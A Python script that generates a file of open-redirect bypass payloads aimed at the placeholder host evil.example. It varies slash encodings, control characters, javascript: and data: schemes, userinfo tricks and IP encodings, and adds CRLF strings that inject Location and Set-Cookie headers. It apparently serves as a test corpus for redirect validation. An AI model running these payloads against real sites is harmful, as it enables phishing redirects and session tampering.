"""Writes return_paths.txt: return paths that have led browsers, servers or their authors astray, one JSON text a line.

Every slash in front of a foreign host is spelt in every way that something between browser and site may read as a
slash or drop; the rest are fragments put before and behind such a host.
"""

import json
from itertools import product
from pathlib import Path

HOST = "evil.example"
SLASHES = ["/", "\\", "%2f", "%5c", "%252f", "%255c", "\u2215", "\uff0f", "%c0%af", "%e0%80%af", "/.", "/%2e", "/a/..", ";/"]
NOISE = ["", "\t", "\n", "\r", " ", "\x00", "\x0b", "\x7f", "%09", "%0a", "%0d%0a", "%00", "%20", "\u3000", "\u200b"]
SCHEMES = ["https:", "HTTP:", "javascript:", "data:", "file:", "ftp:", "vbscript:", "blob:", "//", "///", "////"]
FRAMES = [
    "{}", "/{}", "/x?{}", "@{}", "/@{}", ":{}", "/:{}", "?{}", "#{}", ".{}", "/.{}", "/..//{}", "/x/..//{}", "/x/../..//{}",
    "//{}@localhost", "//localhost@{}", "//localhost:x@{}", "//localhost%40{}", "/%2e%2e//{}", "/%2e//{}", "//[::1]@{}",
    "http:{}", "https:{}", "https:/{}", "https:///{}", "https:\\\\{}", "ht\ntps://{}", "/\t\\{}", "//{}%2f@localhost",
    "//{}%00.localhost", "//{}#@localhost", "//{}?@localhost", "//{}\\@localhost", "//\u3002{}", "//{}%E3%80%82", "\ufeff//{}",
    "/\u2028/{}", "/a%0d%0aLocation:%20//{}", "/a\r\nSet-Cookie: a={}", "/a%c4%8a{}", "/a%e5%98%8a%e5%98%8dSet-Cookie:{}",
]


def lines():
    for first, second, noise in product(SLASHES, SLASHES, ["", "\t", "%09"]):
        yield f"{first}{noise}{second}{HOST}/"
    for noise in NOISE:
        for where in (f"{noise}//{HOST}", f"/{noise}/{HOST}", f"//{noise}{HOST}", f"/{noise}\\{HOST}", f"\\{noise}/{HOST}"):
            yield where
    for scheme, slashes in product(SCHEMES, ["", "/", "//", "\\", "\\\\", "%2f%2f", "/\\/"]):
        yield f"{scheme}{slashes}{HOST}"
    for frame in FRAMES:
        yield frame.format(HOST)
    for host in ("0x7f.1", "2130706433", "127.1", "[::1]", "%65vil.example", "\u24d4vil.example", "xn--vil-epa.example", "localhost.evil.example"):
        yield f"//{host}"
        yield f"/\\{host}/"
    yield "/" + "a" * 4096
    yield "//" + "a" * 2048 + "." + HOST


if __name__ == "__main__":
    text = "".join(json.dumps(line) + "\n" for line in dict.fromkeys(lines()))
    Path(__file__).with_name("return_paths.txt").write_text(text)
